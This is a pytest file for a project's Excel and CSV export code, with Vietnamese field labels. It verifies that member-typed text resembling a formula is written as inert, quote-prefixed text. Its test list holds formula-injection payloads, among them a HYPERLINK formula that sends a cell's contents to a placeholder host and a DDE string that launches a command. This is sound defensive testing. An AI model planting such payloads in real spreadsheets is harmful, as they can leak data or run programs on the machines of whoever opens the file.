"""The .xlsx and CSV writers: text a member typed never becomes a live formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from handlers.exports.csv import to_csv
from handlers.exports.excel import workbook
from handlers.exports.tables import Column, Kind, Report, Sheet

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")'
TYPED = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
COLUMNS = [Column("title", "Tên sáng kiến"), Column("phone", "Điện thoại"),
           Column("movement", "So tuần trước", Kind.MOVEMENT), Column("count", "Số", Kind.INT)]


def report(title: str) -> Report:
    rows = [{"title": title, "phone": "0912345678", "movement": -3, "count": 4},
            {"title": "Cải tiến sổ giao ca", "phone": "0900000004", "movement": 2, "count": 0}]
    return Report("sangkien", "Sáng kiến", [Sheet("Sáng kiến", "Sáng kiến", "", COLUMNS, rows)])


@pytest.mark.parametrize("title", TYPED)
def test_text_that_starts_like_a_formula_is_inert_text_in_the_workbook(title: str) -> None:
    sheet = load_workbook(io.BytesIO(workbook(report(title)))).active
    cell = sheet["A4"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value.replace("\r", "\n") == title.replace("\r", "\n")  # XML reads CR as LF
    assert sheet["B4"].value == "0912345678" and not sheet["B4"].quotePrefix


def test_numbers_stay_numbers_in_the_workbook_beside_a_formula_title() -> None:
    sheet = load_workbook(io.BytesIO(workbook(report(HYPERLINK)))).active
    assert (sheet["C4"].value, sheet["C4"].data_type) == (-3, "n")
    assert (sheet["D4"].value, sheet["D4"].data_type) == (4, "n")
    assert sheet["A5"].data_type == "s" and not sheet["A5"].quotePrefix


@pytest.mark.parametrize("title", TYPED)
def test_text_that_starts_like_a_formula_gets_a_quote_in_csv(title: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(report(title)), newline="")))
    assert rows[1][:2] == ["'" + title, "0912345678"]


def test_numbers_and_plain_text_are_written_unchanged_in_csv() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(report(HYPERLINK)), newline="")))
    assert rows[1][2:] == ["-3", "4"]
    assert rows[2] == ["Cải tiến sổ giao ca", "0900000004", "2", "0"]


def test_a_sheet_name_that_starts_like_a_formula_gets_a_quote_in_csv() -> None:
    sheets = [Sheet(name, name, "", COLUMNS, [{"title": "Sổ giao ca", "movement": -1}])
              for name in ("=1+1", "KDN")]
    rows = list(csv.reader(io.StringIO(to_csv(Report("x", "x", sheets), sheet_label="Khối"))))
    assert [r[0] for r in rows[1:]] == ["'=1+1", "KDN"]
    assert rows[1][3] == "-1"
